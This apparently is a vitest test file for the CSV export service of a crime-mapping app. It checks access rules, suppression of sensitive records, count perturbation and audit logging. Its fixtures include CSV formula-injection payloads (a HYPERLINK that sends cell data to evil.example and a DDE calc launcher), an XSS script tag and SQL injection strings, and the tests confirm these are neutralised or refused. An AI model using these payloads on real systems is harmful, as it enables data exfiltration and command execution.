/**
 * CSV exports on both engines: incident exports hold exactly the cell's or area's unrestricted records
 * (handling code C and sensitive records never leave, even for an administrator), keep to the user's
 * areas, neutralise formulas in text, refuse more rows than the cap and roles without the rights;
 * cell-count exports perturb counts by the cell-key method (from the records' keys: no count 1–4, the
 * p-table's value for the count and key sum) and leave fine-cell sensitive counts out for a public
 * audience; every
 * export is audited with its filters, rows and withheld count.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { cellToBoundary, cellToChildren, cellToLatLng, cellToParent, latLngToCell } from 'h3-js';
import { engines, createTestDatabase, type TestDatabase } from '../helpers/db';
import { insertIncidents } from '../helpers/incidents';
import {
	exportCellCounts,
	exportIncidents,
	INCIDENT_EXPORT_COLUMNS,
	type CellCountExportQuery,
	type CsvExport
} from '../../src/lib/server/services/exports';
import { ServiceError } from '../../src/lib/server/errors';
import { searchAudit } from '../../src/lib/server/db/queries/audit';
import { replaceAreaCells } from '../../src/lib/server/db/queries/areas';
import { perturb } from '../../src/lib/server/auth/cell-key';
import type { AuthUser } from '../../src/lib/server/auth/permissions';
import { scopeFor, type ReadScope } from '../../src/lib/server/auth/read-scope';
import type { BBox } from '../../src/lib/contracts/cells';

const origin = { ip: '192.0.2.45', userAgent: 'vitest-exports' };

// Incidents: two res-11 cells inside one res-9 cell, and one outside it.
const CELL9 = latLngToCell(51.5155, -0.0922, 9);
const CHILDREN = cellToChildren(CELL9, 11);
const WEST = CHILDREN[0];
const EAST = CHILDREN[CHILDREN.length - 1];
const OUTSIDE = cellToChildren(latLngToCell(51.52, -0.07, 9), 11)[0];

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';
const DDE = "+cmd|' /C calc'!A0";
const SCRIPT = '<script>alert(1)</script>';
const SQL = "'; DROP TABLE incidents;--";
const MULTILINE = '@SUM(1+1)\nsecond line, "quoted"';

interface Seed {
	ext: string;
	cell: string;
	day: string;
	code?: string;
	sensitive?: boolean;
	category?: string;
	type?: string;
	location?: string;
}

const SEEDS: Seed[] = [
	{ ext: 'w1', cell: WEST, day: '2024-01-10', location: HYPERLINK },
	{ ext: 'w2', cell: WEST, day: '2024-02-10', category: 'burglary', location: DDE },
	{ ext: 'w3', cell: WEST, day: '2024-03-10', code: 'c', location: 'restricted-w3' },
	{ ext: 'e1', cell: EAST, day: '2024-01-11', type: SQL, location: SCRIPT },
	{
		ext: 'e2',
		cell: EAST,
		day: '2024-01-12',
		sensitive: true,
		category: 'violence-and-sexual-offences',
		location: 'sensitive-e2'
	},
	{ ext: 'e3', cell: EAST, day: '2024-01-14', location: MULTILINE },
	{ ext: 'o1', cell: OUTSIDE, day: '2024-01-13', location: 'On or near Outside Street' }
];

// Counts for the cell-count exports: four res-9 cells under one res-7 cell (incidents at their
// centres). A: 7 + 2 sensitive; B: 3; C: 2 sensitive only; D: 5 + 1 sensitive.
const P7 = latLngToCell(51.5, -0.12, 7);
const [A9, B9, C9, D9] = cellToChildren(P7, 9);
const child10 = (c: string) => cellToChildren(c, 10)[0];
const SENSITIVE_CATEGORY = 'violence-and-sexual-offences';
const ROLLUP: { cell: string; day: string; category: string; n: number; sensitive: number }[] = [
	{ cell: A9, day: '2024-01-15', category: 'burglary', n: 7, sensitive: 0 },
	{ cell: A9, day: '2024-01-15', category: SENSITIVE_CATEGORY, n: 2, sensitive: 2 },
	{ cell: A9, day: '2023-06-01', category: 'burglary', n: 1, sensitive: 0 },
	{ cell: B9, day: '2024-01-15', category: 'burglary', n: 3, sensitive: 0 },
	{ cell: C9, day: '2024-01-15', category: SENSITIVE_CATEGORY, n: 2, sensitive: 2 },
	{ cell: D9, day: '2024-01-15', category: 'burglary', n: 5, sensitive: 0 },
	{ cell: D9, day: '2024-01-15', category: SENSITIVE_CATEGORY, n: 1, sensitive: 1 }
];

/** The rollup's rows as incident records too (public counts read records and their keys). */
const ROLLUP_RECORDS = ROLLUP.flatMap((r, i) =>
	Array.from({ length: r.n }, (_, j) => ({
		ext: `r${i}-${j}`,
		cell9: r.cell,
		// At the centre of its res-9 cell: in that cell, and in P7 at res 7, by latLngToCell.
		lat: cellToLatLng(r.cell)[0],
		lon: cellToLatLng(r.cell)[1],
		day: r.day,
		category: r.category,
		sensitive: r.sensitive > 0,
		key: (31 * i + 17 * j + 5) % 256
	}))
);

/** What the public file must show for one cell: the p-table's value for its records' count and keys. */
function publicValue(
	cell9: string,
	res: number,
	from: string,
	to: string,
	categories: string[] = []
) {
	const mine = ROLLUP_RECORDS.filter(
		(r) =>
			latLngToCell(r.lat, r.lon, res) === cell9 &&
			r.day >= from &&
			r.day <= to &&
			(categories.length === 0 || categories.includes(r.category)) &&
			(res <= 7 || !r.sensitive)
	);
	return perturb(
		mine.length,
		mine.reduce((s, r) => s + r.key, 0),
		5
	);
}

function bboxOf(cell: string): BBox {
	const pts = cellToBoundary(cell);
	const lats = pts.map((p) => p[0]);
	const lngs = pts.map((p) => p[1]);
	return [Math.min(...lngs), Math.min(...lats), Math.max(...lngs), Math.max(...lats)];
}
const P7_BOX = bboxOf(P7);

function user(role: AuthUser['role'], areaIds: number[] = []): AuthUser {
	return {
		id: 1,
		username: `x-${role}${areaIds.length ? '-limited' : ''}`,
		displayName: role,
		role,
		areaIds
	};
}

/** The read scope of a test user (what the routes get from `readScope`). */
function scope(role: AuthUser['role'], areaIds: number[] = []): ReadScope {
	return scopeFor(user(role, areaIds), origin);
}

/** The CSV as a spreadsheet would read it: header and records, byte order mark removed. */
function records(file: CsvExport): string[][] {
	return parse(file.csv, { bom: true }) as string[][];
}

function column(file: CsvExport, name: string): string[] {
	const [header, ...rows] = records(file);
	const i = header.indexOf(name);
	expect(i, `column ${name}`).toBeGreaterThanOrEqual(0);
	return rows.map((r) => r[i]);
}

describe.each(engines())('CSV exports on %s', (engine) => {
	let t: TestDatabase;
	let westArea = 0;
	let bigArea = 0;
	let rollupArea = 0;

	beforeAll(async () => {
		t = await createTestDatabase(engine);
		await t.db.query(`INSERT INTO users (id, username, display_name, password_hash, role)
			VALUES (1, 'seed', 'seed', 'x', 'admin')`);
		const [src] = await t.db.query<{ id: number }>(
			`INSERT INTO sources (name, kind, category) VALUES ('test', 'internal', 'crime') RETURNING id`
		);
		const sourceId = Number(src.id);
		const at = SEEDS.map((s) => cellToLatLng(s.cell));
		await insertIncidents(t.db, sourceId, [
			...SEEDS.map((s, i) => ({ ...s, lat: at[i][0], lon: at[i][1] })),
			...ROLLUP_RECORDS
		]);
		const envelope = async (code: string, [w, s, e, n]: BBox) => {
			const [a] = await t.db.query<{ id: number }>(
				`INSERT INTO areas (kind, code, name, geom) VALUES ('beat', $1, $1,
				   ST_Multi(ST_MakeEnvelope($2, $3, $4, $5, 4326))) RETURNING id`,
				[code, w, s, e, n]
			);
			return Number(a.id);
		};
		// West: a small square about the west child's centre; Big: all seven incidents.
		const [wLat, wLng] = cellToLatLng(WEST);
		westArea = await envelope('W', [wLng - 0.0002, wLat - 0.0002, wLng + 0.0002, wLat + 0.0002]);
		const lats = at.map((p) => p[0]);
		const lngs = at.map((p) => p[1]);
		bigArea = await envelope('BIG', [
			Math.min(...lngs) - 0.001,
			Math.min(...lats) - 0.001,
			Math.max(...lngs) + 0.001,
			Math.max(...lats) + 0.001
		]);
		// An area whose resolution-10 cover holds A's and B's cells only.
		rollupArea = await envelope('AB', P7_BOX);
		await replaceAreaCells(t.db, [
			{ areaId: rollupArea, cells: [A9, B9].map((c) => BigInt(`0x${child10(c)}`).toString()) }
		]);
		// (replaceAreaCells writes its covers at 5–9 too, as the area import does.)
	});
	afterAll(async () => t?.drop());

	const cellExport = (who: AuthUser, q: Partial<CellCountExportQuery>, options = {}) =>
		exportCellCounts(
			t.db,
			scopeFor(who, origin),
			{ res: 9, categories: [], audience: 'internal', bbox: P7_BOX, ...q },
			options
		);

	describe('incident records', () => {
		it('holds exactly the cell’s unrestricted records, oldest first, in the documented columns', async () => {
			const file = await exportIncidents(t.db, scope('analyst'), { cell: CELL9, categories: [] });
			expect(file).toMatchObject({ rows: 4, withheld: 2 });
			expect(records(file)[0]).toEqual([...INCIDENT_EXPORT_COLUMNS]);
			expect(column(file, 'external_id')).toEqual(['w1', 'e1', 'e3', 'w2']);
			expect(column(file, 'source')).toEqual(['test', 'test', 'test', 'test']);
			expect(column(file, 'occurred_from')[0]).toBe('2024-01-10T12:00:00.000Z');
			expect(column(file, 'h3')).toEqual([WEST, EAST, EAST, WEST]);
			const [lat, lng] = cellToLatLng(WEST);
			expect(Number(column(file, 'longitude')[0])).toBeCloseTo(lng, 5);
			expect(Number(column(file, 'latitude')[0])).toBeCloseTo(lat, 5);
			expect(file.filename).toBe(`beatwise-incidents-cell-${CELL9}.csv`);
		});

		it('never exports handling code C or sensitive records, not even for an administrator', async () => {
			for (const role of ['admin', 'supervisor'] as const) {
				const file = await exportIncidents(t.db, scope(role), { cell: CELL9, categories: [] });
				expect(file).toMatchObject({ rows: 4, withheld: 2 });
				expect(column(file, 'external_id')).not.toContain('w3');
				expect(column(file, 'external_id')).not.toContain('e2');
				expect(file.csv).not.toMatch(/restricted-w3|sensitive-e2|violence-and-sexual-offences/);
			}
		});

		it('neutralises formulas in text and keeps negative coordinates as numbers', async () => {
			const file = await exportIncidents(t.db, scope('analyst'), { cell: CELL9, categories: [] });
			expect(column(file, 'location_text')).toEqual([
				`'${HYPERLINK}`,
				SCRIPT,
				`'${MULTILINE}`,
				`'${DDE}`
			]);
			expect(column(file, 'original_type')[1]).toBe(SQL);
			// Nothing a spreadsheet would evaluate: no field starts =, +, @, tab or CR; '-' only in numbers.
			const fields = records(file).flat();
			expect(fields.filter((f) => /^[=+@\t\r]/.test(f))).toEqual([]);
			expect(fields.filter((f) => f.startsWith('-'))).toEqual(column(file, 'longitude'));
			expect(column(file, 'longitude').every((v) => /^-0\.\d{1,5}$/.test(v))).toBe(true);
			// Raw body: the hyperlink is guarded and quoted, the multi-line text is one quoted field.
			expect(file.csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`);
			expect(file.csv).toContain(`"'@SUM(1+1)\nsecond line, ""quoted"""`);
			expect(records(file)).toHaveLength(5);
		});

		it('keeps to the user’s areas', async () => {
			const file = await exportIncidents(t.db, scope('analyst', [westArea]), {
				cell: CELL9,
				categories: []
			});
			expect(file).toMatchObject({ rows: 2, withheld: 1 });
			expect(column(file, 'external_id')).toEqual(['w1', 'w2']);
			// An area export outside the user's areas holds only what lies inside both.
			const big = await exportIncidents(t.db, scope('analyst', [westArea]), {
				area: bigArea,
				categories: []
			});
			expect(column(big, 'external_id')).toEqual(['w1', 'w2']);
		});

		it('exports one area’s records by ST_Covers, with date and category filters', async () => {
			const all = await exportIncidents(t.db, scope('analyst'), { area: bigArea, categories: [] });
			expect(all).toMatchObject({ rows: 5, withheld: 2 });
			expect(column(all, 'external_id')).toEqual(['w1', 'e1', 'o1', 'e3', 'w2']);
			expect(all.filename).toBe(`beatwise-incidents-area-${bigArea}.csv`);
			const west = await exportIncidents(t.db, scope('analyst'), {
				area: westArea,
				categories: []
			});
			expect(column(west, 'external_id')).toEqual(['w1', 'w2']);
			const filtered = await exportIncidents(t.db, scope('analyst'), {
				area: bigArea,
				from: '2024-01-11',
				to: '2024-02-28',
				categories: ['burglary', 'anti-social-behaviour']
			});
			expect(column(filtered, 'external_id')).toEqual(['e1', 'o1', 'e3', 'w2']);
			expect(filtered.withheld).toBe(0);
			expect(filtered.filename).toBe(
				`beatwise-incidents-area-${bigArea}-from-2024-01-11-to-2024-02-28.csv`
			);
		});

		it('refuses more rows than the cap, naming the limit; exactly the cap is fine', async () => {
			const q = { cell: CELL9, categories: [] };
			await expect(
				exportIncidents(t.db, scope('analyst'), q, { maxRows: 3 })
			).rejects.toMatchObject({
				code: 'E_PARAMETER',
				status: 400,
				message: expect.stringMatching(/4 rows, more than the limit of 3/)
			});
			const atCap = await exportIncidents(t.db, scope('analyst'), q, { maxRows: 4 });
			expect(atCap.rows).toBe(4);
		});

		it('refuses roles without export:create or incidents:detail, and bad parameters', async () => {
			const q = { cell: CELL9, categories: [] };
			await expect(exportIncidents(t.db, scope('planner'), q)).rejects.toMatchObject({
				code: 'E_FORBIDDEN',
				status: 403,
				message: expect.stringMatching(/incident-level detail/)
			});
			for (const role of ['officer', 'viewer', 'community'] as const) {
				await expect(exportIncidents(t.db, scope(role), q)).rejects.toMatchObject({
					code: 'E_FORBIDDEN',
					status: 403,
					message: expect.stringMatching(/exports/)
				});
			}
			const bad: [Parameters<typeof exportIncidents>[2], string][] = [
				[{ cell: CELL9, area: bigArea, categories: [] }, 'E_PARAMETER'],
				[{ categories: [] }, 'E_PARAMETER'],
				[{ cell: WEST, categories: [] }, 'E_PARAMETER'],
				[{ cell: cellToParent(CELL9, 4), categories: [] }, 'E_PARAMETER'],
				[{ cell: "8a'; DROP TABLE", categories: [] }, 'E_PARAMETER'],
				[{ area: 999_999, categories: [] }, 'E_UNKNOWN_AREA'],
				[{ cell: CELL9, from: '2024-03-01', to: '2024-01-01', categories: [] }, 'E_DATE_RANGE']
			];
			for (const [query, code] of bad) {
				const failure = await exportIncidents(t.db, scope('analyst'), query).catch((e) => e);
				expect(failure, JSON.stringify(query)).toBeInstanceOf(ServiceError);
				expect(failure.code, JSON.stringify(query)).toBe(code);
			}
			const n = await t.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM incidents`);
			expect(Number(n[0].n)).toBe(SEEDS.length + ROLLUP_RECORDS.length);
		});
	});

	describe('cell counts', () => {
		const rows = (file: CsvExport) => records(file).slice(1);

		it('internal: exact counts per cell, sensitive included, sorted by cell', async () => {
			const file = await cellExport(user('planner'), { from: '2024-01-01', to: '2024-01-31' });
			expect(records(file)[0]).toEqual(['h3', 'resolution', 'incidents']);
			expect(rows(file)).toEqual(
				[
					[A9, '9', '9'],
					[B9, '9', '3'],
					[C9, '9', '2'],
					[D9, '9', '6']
				].sort((a, b) => a[0].localeCompare(b[0]))
			);
			expect(file).toMatchObject({ rows: 4, withheld: 0 });
			// Without dates: the whole range of the rollup (A's 2023 incident too).
			const whole = await cellExport(user('analyst'), {});
			expect(rows(whole).find((r) => r[0] === A9)?.[2]).toBe('10');
		});

		it('public: counts perturbed by their records’ keys, sensitive records leave fine cells, 0 dropped', async () => {
			const file = await cellExport(user('analyst'), {
				from: '2024-01-01',
				to: '2024-01-31',
				audience: 'public'
			});
			const expected = [A9, B9, C9, D9]
				.map((c) => [c, '9', String(publicValue(c, 9, '2024-01-01', '2024-01-31'))])
				.filter((r) => r[2] !== '0')
				.sort((a, b) => a[0].localeCompare(b[0]));
			expect(rows(file)).toEqual(expected);
			// No count from 1 to 4 is ever published.
			for (const r of rows(file)) expect(Number(r[2])).toBeGreaterThanOrEqual(5);
			// C held only sensitive records: no row at all (a 0 would give them away).
			expect(rows(file).map((r) => r[0])).not.toContain(C9);
			expect(file).toMatchObject({ rows: expected.length, withheld: 5 });
			expect(file.filename).toBe(
				'beatwise-cells-res9-public-bbox-from-2024-01-01-to-2024-01-31.csv'
			);
			// The same records get the same value: asked again, and for B alone through its area box.
			const again = await cellExport(user('planner'), {
				from: '2024-01-01',
				to: '2024-01-31',
				audience: 'public'
			});
			expect(again.csv).toBe(file.csv);
		});

		it('public: sensitive categories count at resolution 7, and at fine cells only the rest shows', async () => {
			const coarse = await cellExport(user('analyst'), {
				res: 7,
				from: '2024-01-01',
				to: '2024-01-31',
				audience: 'public'
			});
			expect(rows(coarse)).toEqual([
				[P7, '7', String(publicValue(P7, 7, '2024-01-01', '2024-01-31'))]
			]);
			expect(coarse.withheld).toBe(0);
			const sensitiveOnly = await cellExport(user('analyst'), {
				res: 7,
				from: '2024-01-01',
				to: '2024-12-31',
				categories: [SENSITIVE_CATEGORY],
				audience: 'public'
			});
			const five = publicValue(P7, 7, '2000-01-01', '2100-01-01', [SENSITIVE_CATEGORY]);
			expect(rows(sensitiveOnly)).toEqual(five === 0 ? [] : [[P7, '7', String(five)]]);
			const fine = await cellExport(user('analyst'), {
				from: '2024-01-01',
				to: '2024-12-31',
				categories: [SENSITIVE_CATEGORY],
				audience: 'public'
			});
			expect(rows(fine)).toEqual([]);
			expect(fine).toMatchObject({ rows: 0, withheld: 5 });
		});

		it('counts an area’s cover only', async () => {
			const file = await cellExport(user('analyst'), {
				bbox: undefined,
				area: rollupArea,
				from: '2024-01-01',
				to: '2024-01-31'
			});
			expect(rows(file).map((r) => [r[0], r[2]])).toEqual(
				[
					[A9, '9'],
					[B9, '3']
				].sort((a, b) => a[0].localeCompare(b[0]))
			);
		});

		it('refuses roles without export:create, bad resolutions and the row cap', async () => {
			for (const role of ['officer', 'viewer', 'community'] as const) {
				await expect(cellExport(user(role), {})).rejects.toMatchObject({
					code: 'E_FORBIDDEN',
					status: 403,
					message: expect.stringMatching(/exports/)
				});
			}
			for (const res of [6, 11]) {
				await expect(cellExport(user('analyst'), { res })).rejects.toMatchObject({
					code: 'E_PARAMETER',
					message: expect.stringMatching(/^res:/)
				});
			}
			await expect(cellExport(user('analyst'), { area: rollupArea })).rejects.toMatchObject({
				code: 'E_PARAMETER'
			});
			await expect(cellExport(user('analyst'), {}, { maxRows: 2 })).rejects.toThrow(
				/more than the limit of 2/
			);
		});

		it('public: only the fixed tables (a calendar month or year, all categories or one)', async () => {
			const pub = (q: Partial<CellCountExportQuery>) =>
				cellExport(user('analyst'), { audience: 'public', ...q });
			await expect(pub({ from: '2024-01-02', to: '2024-01-31' })).rejects.toMatchObject({
				code: 'E_PARAMETER',
				message: expect.stringMatching(
					/^from, to: .*one calendar month or one calendar year.*nearest is from=2024-01-01&to=2024-01-31$/
				)
			});
			await expect(pub({ from: '2023-12-01', to: '2024-01-31' })).rejects.toThrow(
				/nearest is from=2024-01-01&to=2024-12-31$/
			);
			await expect(pub({ from: '2024-01-01' })).rejects.toThrow(/give both or neither/);
			await expect(pub({ categories: ['burglary', 'robbery'] })).rejects.toMatchObject({
				code: 'E_PARAMETER',
				message: expect.stringMatching(/^categories: .*all categories or for one/)
			});
			// A calendar year is a table; so is the default, the month of the data's last day.
			// (The data's last day is 2024-03-10: every incident is in the rollups, kept by triggers.)
			const year = await pub({ from: '2024-01-01', to: '2024-12-31' });
			expect(year.filename).toMatch(/from-2024-01-01-to-2024-12-31\.csv$/);
			const month = await pub({});
			expect(month.csv).toBe((await pub({ from: '2024-03-01', to: '2024-03-31' })).csv);
			expect(month.filename).toMatch(/from-2024-03-01-to-2024-03-31\.csv$/);
			// Internal exports keep any period.
			await expect(
				cellExport(user('analyst'), { from: '2024-01-02', to: '2024-01-30' })
			).resolves.toBeTruthy();
		});

		it('public: an area chooses whole cells, it does not clip them', async () => {
			// The area covers one res-10 child each of A and B; at res 7 their parent P7 is one cell, and
			// the public count is that of the whole cell (A, B, C and D), as the bbox export gives it.
			const byArea = await cellExport(user('analyst'), {
				res: 7,
				bbox: undefined,
				area: rollupArea,
				from: '2024-01-01',
				to: '2024-01-31',
				audience: 'public'
			});
			expect(rows(byArea)).toEqual([
				[P7, '7', String(publicValue(P7, 7, '2024-01-01', '2024-01-31'))]
			]);
		});
	});

	it('audits every export with who, what, the filters, rows and withheld', async () => {
		const before = await searchAudit(t.db, { action: 'export', page: 1, pageSize: 500 });
		await exportIncidents(t.db, scope('supervisor'), {
			cell: CELL9,
			from: '2024-01-01',
			categories: ['anti-social-behaviour']
		});
		await cellExport(user('planner'), {
			from: '2024-01-01',
			to: '2024-01-31',
			audience: 'public'
		});
		const after = await searchAudit(t.db, { action: 'export', page: 1, pageSize: 500 });
		expect(after.total).toBe(before.total + 2);
		const [cells, incidents] = after.rows;
		expect(incidents).toMatchObject({
			username: 'x-supervisor',
			action: 'export',
			object: `incidents:cell:${CELL9}`,
			ip: '192.0.2.45',
			userAgent: 'vitest-exports',
			detail: {
				kind: 'incidents',
				cell: CELL9,
				res: 9,
				area: null,
				from: '2024-01-01',
				to: null,
				categories: ['anti-social-behaviour'],
				rows: 3,
				withheld: 1,
				areaIds: null
			}
		});
		expect(cells).toMatchObject({
			username: 'x-planner',
			object: `cells:bbox:${P7_BOX.join(',')}`,
			detail: {
				kind: 'cells',
				audience: 'public',
				res: 9,
				from: '2024-01-01',
				to: '2024-01-31',
				withheld: 5,
				perturbed: 4
			}
		});
		// The area-limited export earlier recorded its limits; refused exports wrote nothing.
		const limited = after.rows.filter((r) => r.username === 'x-analyst-limited');
		expect(limited.map((r) => r.detail.areaIds)).toEqual([[westArea], [westArea]]);
		expect(
			after.rows.filter((r) => ['x-officer', 'x-viewer', 'x-community'].includes(r.username!))
		).toEqual([]);
	});
});
